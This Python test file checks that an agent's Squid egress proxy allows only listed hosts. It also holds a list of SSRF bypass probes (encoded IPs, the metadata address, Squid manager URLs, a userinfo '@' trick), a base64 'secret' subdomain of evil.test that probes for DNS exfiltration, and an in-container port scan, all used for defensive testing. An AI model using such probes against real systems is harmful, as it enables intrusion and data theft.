"""The way outside: what one allowed host opens, and everything a hostile algorithm finds closed all the same."""

import contextlib
import json
import os
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from ipaddress import IPv4Address
from pathlib import Path
from typing import NoReturn

import pytest

from node_agent.domain.egress import parse_rule
from node_agent.errors import ConfigError
from node_agent.gates.egress import Egress, EgressPlan, squid_program
from node_agent.runtime.addresses import Addresses
from node_agent.runtime.firewall import ensure_firewall, remove_firewall
from node_agent.runtime.network import prepare_network
from node_agent.runtime.subnets import host_addresses
from tests.integration.machine import Machine
from tests.lab.outside import OTHER_PORT, PORT, Outside, OutsideError, outside
from tests.lab.registry import registry
from tests.ports import free_port

pytestmark = [pytest.mark.engine, pytest.mark.usefixtures("root")]

NAMES = {
    "allowed.test": ("{}",),
    "*.wild.test": ("{}",),
    "wild.test": ("{}",),
    "loopback.inside.test": ("127.0.0.1",),
    "nowhere.inside.test": ("0.0.0.0",),
    "metadata.inside.test": ("169.254.169.254",),
    "bridge.inside.test": ("172.17.0.1",),
    "far.inside.test": ("{}",),
    "both.inside.test": ("{}", "127.0.0.1"),
    "other.test": ("{}",),
}

ASK = """
import json, socket
def ask(request, then=None):
    try:
        with socket.create_connection(('proxyserver', EGRESS), timeout=10) as proxy:
            proxy.sendall(request.encode())
            head = b''
            while b'\\r\\n\\r\\n' not in head:
                piece = proxy.recv(4096)
                if not piece:
                    break
                head += piece
            status = head.split()[1].decode() if head else 'closed'
            if then is None or status != '200':
                return status
            proxy.sendall(then.encode())
            answer = b''
            while b'outside' not in answer and (piece := proxy.recv(4096)):
                answer += piece
            return 'page' if b'a page outside' in answer else answer.decode()
    except OSError as error:
        return type(error).__name__

def get(url):
    return ask(f'GET {url} HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n')

def connect(place):
    return ask(f'CONNECT {place} HTTP/1.1\\r\\nHost: {place}\\r\\n\\r\\n', 'GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')

print(json.dumps({what: {'get': get, 'connect': connect}[what.split()[0]](what.split()[1]) for what in ASKED}))
"""


@dataclass(frozen=True)
class Opened:
    """An agent's network with the way outside open."""

    place: Machine
    far: Outside
    port: int

    def ask(self, run_id: int, *asked: str) -> dict[str, str]:
        """Ask the proxy from inside of a run; give each answer's status."""
        script = f"EGRESS = {self.port}\nASKED = {list(asked)!r}\n{ASK}"
        answer: dict[str, str] = self.place.answer(run_id, script)
        return answer


def inside(place: Machine) -> tuple[str, ...]:
    addresses = Addresses(place.name, place.connection, network=place.facts.name)
    return (*host_addresses(), *addresses.of_networks())


@pytest.fixture(scope="module")
def opened(
    session_machine: Machine,
    tmp_path_factory: pytest.TempPathFactory,
    missing: Callable[[str], NoReturn],
) -> Iterator[Opened]:
    place, port = session_machine, free_port("0.0.0.0")
    with contextlib.ExitStack() as stack:
        try:
            squid_program()
            names = {**NAMES, "gateway.inside.test": (place.facts.gateway,)}
            far = stack.enter_context(outside(names))
        except (OutsideError, ConfigError) as error:
            missing(str(error))
        rules = (
            *(f"allowed.test:{PORT}", f"*.wild.test:{PORT}", f"*.inside.test:{OTHER_PORT}"),
            f"*.inside.test:{port}",
            f"{far.second}:{PORT}",
        )
        plan = EgressPlan(
            agent=place.name,
            address=place.facts.gateway,
            port=port,
            clients=place.facts.subnet,
            rules=tuple(map(parse_rule, rules)),
            name_servers=(far.address,),
        )
        egress = Egress(plan, folder=tmp_path_factory.mktemp("gates"), inside=lambda: inside(place))
        egress.start()
        prepared = prepare_network(place.network, name=place.name, proxy_port=free_port(), gates=(port,))
        assert prepared.firewall.loaded, prepared.firewall.reason
        try:
            yield Opened(place, far, port)
        finally:
            egress.stop()
            remove_firewall(place.name)


def test_what_is_allowed_answers_through_get_and_connect(opened: Opened) -> None:
    asked = (
        *(f"get http://allowed.test:{PORT}/", f"connect allowed.test:{PORT}", f"connect ALLOWED.test:{PORT}"),
        *(f"get http://a.wild.test:{PORT}/", f"connect a.b.wild.test:{PORT}"),
        f"connect far.inside.test:{OTHER_PORT}",
        *(f"get http://{opened.far.second}:{PORT}/", f"connect {opened.far.second}:{PORT}"),
    )
    assert opened.ask(1, *asked) == {what: "200" if what.startswith("get") else "page" for what in asked}


def test_everything_else_is_refused(opened: Opened) -> None:
    far, port, gateway = opened.far, opened.port, opened.place.facts.gateway
    decimal = int.from_bytes(socket.inet_aton(far.address))
    places = (
        # other ports and other spellings of allowed places
        *(f"allowed.test:{OTHER_PORT}", "allowed.test:80", f"allowed.test.evil.test:{PORT}", f"xallowed.test:{PORT}"),
        *(f"wild.test:{PORT}", f"xwild.test:{PORT}", f"{far.second}:{OTHER_PORT}"),
        # other names and addresses, however they are written
        *(f"other.test:{PORT}", f"{far.address}:{PORT}", f"{far.third}:{PORT}", f"{decimal}:{PORT}"),
        *(f"0xc6.0x33.0x64.{far.address.rpartition('.')[2]}:{PORT}", f"[::ffff:{far.third}]:{PORT}", f"[::1]:{PORT}"),
        # this machine, the proxy itself, containers, the engine's registry
        *(f"127.0.0.1:{port}", f"localhost:{port}", f"proxyserver:{port}", f"{gateway}:{port}", "172.17.0.1:22"),
        *(f"{address}:22" for address in host_addresses()),
        # allowed names that lead inside
        *(f"{name}.inside.test:{PORT}" for name in ("loopback", "gateway")),
        *(f"{name}.inside.test:{OTHER_PORT}" for name in ("loopback", "nowhere", "metadata", "bridge", "both", "gateway")),
        *(f"{name}.inside.test:{port}" for name in ("loopback", "gateway")),
    )  # fmt: skip
    others = (
        *(
            f"get ftp://allowed.test:{PORT}/",
            f"get https://allowed.test:{PORT}/",
            "get cache_object://localhost/menu",
        ),
        *(f"get http://proxyserver:{port}/squid-internal-mgr/menu", "get /squid-internal-mgr/menu", "get /"),
        *(f"get http://allowed.test:{PORT}@{far.third}:{PORT}/", f"get urn:allowed.test:{PORT}", "get *"),
    )
    asked = [
        *(f"get http://{place}/" for place in places),
        *(f"connect {place}" for place in places),
        *others,
    ]
    answers = opened.ask(1, *asked)
    assert {what: status for what, status in answers.items() if status not in {"403", "400"}} == {}


def reversed_address(question: str) -> IPv4Address:
    """Read `4.3.2.1.in-addr.arpa 12`; everything else is no address of any container."""
    words = question.removesuffix(".in-addr.arpa 12").split(".")
    return IPv4Address(".".join(reversed(words)) if len(words) == 4 else "192.88.99.1")


def test_no_name_is_looked_up_that_no_rule_names(opened: Opened) -> None:
    secret = "c2VjcmV0.evil.test"
    opened.ask(1, f"get http://{secret}:{PORT}/", f"connect {secret}:{PORT}", f"get http://{secret}/")
    opened.ask(2, f"get http://allowed.test:{PORT}/")
    allowed = ("allowed.test", ".wild.test", ".inside.test")
    asked = opened.far.asked()
    assert any(question.startswith("allowed.test") for question in asked)
    # Squid asks for the name of each client's own address, which no algorithm chooses.
    strange = [question for question in asked if not question.split()[0].endswith(allowed)]
    assert [question for question in strange if not reversed_address(question).is_private] == []


def test_beside_the_proxy_nothing_opens(opened: Opened) -> None:
    """With the way outside open, raw sockets get nowhere and the host is as closed as before."""
    far, gateway = opened.far, opened.place.facts.gateway
    with registry() as shop, socket.create_server(("0.0.0.0", 0)) as careless:
        ports = (int(careless.getsockname()[1]), int(shop.host.rpartition(":")[2]), 22, 53)
        doors = [(far.address, PORT), (far.address, 53), (far.second, PORT), (gateway, opened.port)]
        doors += [(address, port) for address in (*host_addresses(), gateway) for port in ports]
        script = f"""
import json, socket
from concurrent.futures import ThreadPoolExecutor
def answers(door):
    with socket.socket() as sock:
        sock.settimeout(0.5)
        return sock.connect_ex(door) in (0, 111)
with ThreadPoolExecutor(40) as at_once:
    found = [door for door, open_ in zip({doors}, at_once.map(answers, {doors})) if open_]
try:
    socket.getaddrinfo('allowed.test', 80)
    found.append('a name')
except OSError:
    pass
print(json.dumps(found))
"""
        assert opened.place.answer(1, script) == [[gateway, opened.port]]


def test_a_container_of_another_network_is_no_client(opened: Opened) -> None:
    request = f"GET http://allowed.test:{PORT}/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"
    script = f"""
import socket
try:
    with socket.create_connection(('{opened.place.facts.gateway}', {opened.port}), timeout=5) as proxy:
        proxy.sendall(b'{request}')
        print(proxy.recv(4096))
except ConnectionError:
    print('no answer')
"""
    said = opened.place.client.containers.run(
        opened.place.image_id,
        remove=True,
        environment={"DO": script},
        labels={"node-agent.name": opened.place.name},
    )
    assert said.strip() == b"no answer"


@pytest.mark.parametrize("has_rule", [True, False], ids=["with the firewall rule", "without it"])
def test_a_user_of_this_machine_is_no_client(opened: Opened, has_rule: bool) -> None:
    place = (opened.place.facts.gateway, opened.port)
    if not has_rule:
        remove_firewall(opened.place.name)
    try:
        assert said_to(place, f"GET http://allowed.test:{PORT}/ HTTP/1.1\r\nHost: x\r\n\r\n") == b""
    finally:
        ensure_firewall(opened.place.name, gateway=place[0], proxy_port=free_port(), gates=(place[1],))


def said_to(place: tuple[str, int], request: str) -> bytes:
    """Return what a server says to this machine; nothing when it refuses or breaks off."""
    with contextlib.suppress(ConnectionError), socket.create_connection(place, timeout=5) as line:
        line.sendall(request.encode())
        return line.recv(4096)
    return b""


# --- the program ------------------------------------------------------------------------------------------------


@pytest.fixture
def plan(missing: Callable[[str], NoReturn]) -> EgressPlan:
    try:
        squid_program()
    except ConfigError as error:
        missing(str(error))
    return EgressPlan(
        agent=f"it-{os.getpid()}",
        address="127.0.0.1",
        port=free_port(),
        clients="127.0.0.0/8",
        rules=(parse_rule("127.0.0.1:1"),),
    )


def answers(port: int) -> bool:
    """Ask the proxy for a place nobody allowed; tell whether it says so."""
    try:
        # not from the proxy's own address, at which it answers nobody
        with socket.create_connection(("127.0.0.1", port), 2, source_address=("127.0.0.2", 0)) as proxy:
            proxy.sendall(b"GET http://other.test/ HTTP/1.0\r\n\r\n")
            return b" 403 " in proxy.recv(4096)
    except OSError:
        return False


def arguments_of(pid: str) -> bytes:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes()
    except OSError:
        return b""


def eventually(look: Callable[[], bool]) -> bool:
    deadline = time.monotonic() + 20
    while not look():
        if time.monotonic() > deadline:
            return False
        time.sleep(0.1)
    return True


def test_a_killed_proxy_is_started_again(plan: EgressPlan, tmp_path: Path) -> None:
    egress = Egress(plan, folder=tmp_path, inside=tuple)
    egress.start()
    try:
        before = int((tmp_path / "squid.pid").read_text())
        os.kill(before, signal.SIGKILL)
        time.sleep(0.2)
        assert eventually(lambda: answers(plan.port))
        assert int((tmp_path / "squid.pid").read_text()) != before
    finally:
        egress.stop()
    assert not answers(plan.port)


def test_new_networks_are_taken_up_without_a_restart(plan: EgressPlan, tmp_path: Path) -> None:
    networks = ["192.0.2.0/24"]
    egress = Egress(plan, folder=tmp_path, inside=lambda: networks)
    egress.start()
    try:
        before = (tmp_path / "squid.pid").read_text()
        networks.append("203.0.113.0/24")
        egress.refresh()
        assert eventually(lambda: answers(plan.port))
        assert (tmp_path / "squid.pid").read_text() == before
    finally:
        egress.stop()


AGENT = """
import json, sys, time
from pathlib import Path
from node_agent.domain.egress import parse_rule
from node_agent.gates.egress import Egress, EgressPlan
told = json.loads(sys.argv[1])
rule = parse_rule('127.0.0.1:1')
plan = EgressPlan(agent='x', address='127.0.0.1', port=told['port'], clients='127.0.0.0/8', rules=(rule,))
Egress(plan, folder=Path(told['folder']), inside=tuple).start()
print('up', flush=True)
time.sleep(60)
"""


def test_the_proxy_ends_with_an_agent_that_is_killed(plan: EgressPlan, tmp_path: Path) -> None:
    told = json.dumps({"port": plan.port, "folder": str(tmp_path)})
    with subprocess.Popen(
        [sys.executable, "-c", AGENT, told], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL
    ) as agent:
        assert agent.stdout is not None
        while agent.stdout.readline() not in {b"up\n", b""}:
            pass
        assert answers(plan.port)
        pid = (tmp_path / "squid.pid").read_text().strip()
        assert b"squid" in arguments_of(pid)
        agent.kill()
    assert eventually(lambda: b"squid" not in arguments_of(pid))
    assert not answers(plan.port)


def test_a_proxy_that_was_left_over_is_ended_and_a_stranger_is_not(plan: EgressPlan, tmp_path: Path) -> None:
    egress = Egress(plan, folder=tmp_path, inside=tuple)
    with subprocess.Popen(["sleep", "60"]) as stranger:
        (tmp_path / "squid.pid").write_text(str(stranger.pid))
        egress.start()
        egress.stop()
        assert stranger.poll() is None
        stranger.kill()


def test_a_port_that_is_taken_is_said(plan: EgressPlan, tmp_path: Path) -> None:
    with (
        socket.create_server(("127.0.0.1", plan.port)),
        pytest.raises(ConfigError, match=r"does not listen.*in use"),
    ):
        Egress(plan, folder=tmp_path, inside=tuple).start()
